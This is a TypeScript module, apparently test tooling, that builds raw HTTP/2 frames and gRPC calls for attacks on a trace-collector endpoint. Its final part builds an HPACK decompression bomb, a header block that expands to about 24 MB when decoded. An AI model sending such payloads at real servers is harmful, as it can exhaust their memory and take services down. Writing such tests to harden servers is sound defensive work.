// Builds HTTP/2 frames by hand, because the attacks send frames that no client library sends.
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

export function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

export const frames = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const
export const flags = { endStream: 1, ack: 1, endHeaders: 4 } as const

const literal = (name: string, value: string) =>
  Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)])

export const call = (path: string, authorization?: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x83, 0x86]),
    literal(':path', path),
    literal(':authority', 'x'),
    literal('content-type', 'application/grpc'),
    ...(authorization === undefined ? [] : [literal('authorization', authorization)]),
  ])

export const traceCall = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'
export const healthCall = '/grpc.health.v1.Health/Check'

/** Builds a setting in the format of RFC 9113 §6.5.1. */
export function settingsOf(id: number, value: number): Buffer {
  const setting = Buffer.alloc(6)
  setting.writeUInt16BE(id, 0)
  setting.writeUInt32BE(value, 2)
  return setting
}

export const hello = (settings: Uint8Array = new Uint8Array()) =>
  Buffer.concat([preface, frame(frames.settings, 0, 0, settings), frame(frames.settings, flags.ack, 0)])

/**
 * This header field has 3,000 bytes. The receiver's decoder stores the field (RFC 7541 §6.2.1). After that, each byte 0xbe in a header
 * block repeats the field. A block with 8,000 of these bytes therefore decodes to 24 MB.
 */
const keptField = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xb9, 0x16]), Buffer.alloc(3_000, 'a')])
const pseudoHeaders = Buffer.from([0x83, 0x86, 0x84, 0x41, 1, 0x68])
export const expandingBlock = (isFirst: boolean) =>
  Buffer.concat([pseudoHeaders, isFirst ? keptField : Buffer.alloc(0), Buffer.alloc(8_000, 0xbe)])
